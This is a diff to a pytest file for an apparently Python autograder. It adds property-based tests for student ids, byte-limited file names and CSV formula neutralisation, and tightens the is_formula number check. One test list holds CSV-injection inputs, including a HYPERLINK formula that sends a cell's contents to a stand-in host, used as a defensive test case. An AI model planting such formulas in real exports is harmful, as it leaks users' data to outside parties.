@@ -12,11 +12,14 @@ from __future__ import annotations
 import csv
 import io
 import os
+import re
 import unicodedata
 import zipfile
 from datetime import datetime
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from traitlets.config import Config, Configurable
 
 from autograder.collect.attribution import DownloadFile, refusals
@@ -36,13 +39,9 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def is_formula(cell: str) -> bool:
-    """Whether a spreadsheet would run the CSV cell: text (not a number) starting with = + - @, a tab
-    or a carriage return."""
-    try:
-        float(cell)
-        return False
-    except ValueError:
-        return cell.startswith(FORMULA_STARTS)
+    """Whether a spreadsheet would run the CSV cell: text starting with = + - @, a tab or a carriage
+    return that is not a plain decimal number."""
+    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?", cell)
 
 
 # --- ids ------------------------------------------------------------------------------------------
@@ -83,7 +82,22 @@ def test_an_id_too_long_in_bytes_is_not_safe():
     assert safe_student_id("가" * 64) and not safe_student_id("\U00020000" * 49)  # 4-byte letters: 196 bytes
 
 
+@settings(max_examples=200, deadline=None)
+@given(name=st.text(max_size=300))
+def test_any_name_gives_a_safe_id_or_none(name):
+    student = id_from_name(name)
+    assert student == "" or safe_student_id(student)
+    assert id_from_name(unicodedata.normalize("NFD", name)) == id_from_name(unicodedata.normalize("NFC", name))
+
+
 # --- file names -----------------------------------------------------------------------------------
+
+@settings(max_examples=200, deadline=None)
+@given(name=st.text(min_size=1, max_size=400).filter(lambda text: "/" not in text and "\0" not in text))
+def test_any_name_fits_a_file_name(name):
+    fitted = fitting_name(name)
+    assert utf8_length(fitted) <= NAME_MAX_BYTES and (fitted == name or utf8_length(name) > NAME_MAX_BYTES)
+
 
 def test_a_name_too_long_for_a_file_is_cut_by_bytes_and_keeps_its_extension(tmp_path):
     name = f"{LONG_KOREAN}_103_assignsubmission_file_{NOTEBOOK}"
@@ -207,6 +221,12 @@ def test_long_names_are_unpacked_shortened_and_keep_their_path_in_the_download(t
                                   "\u200b=1+1", "＝1+1", '=HYPERLINK("http://x.example/?"&A1,"Click")'])
 def test_text_that_could_start_a_formula_is_neutralised(text):
     assert safe_cell(text) == "'" + text
+
+
+@settings(max_examples=300, deadline=None)
+@given(text=st.text(max_size=40))
+def test_no_text_cell_is_written_as_a_formula(text):
+    assert not is_formula(safe_cell(text))
 
 
 @pytest.mark.parametrize("value, written", [(-1, "-1"), ("-1", "-1"), (2.5, "2.5"), ("+2.5", "+2.5"), ("1e3", "1e3"),
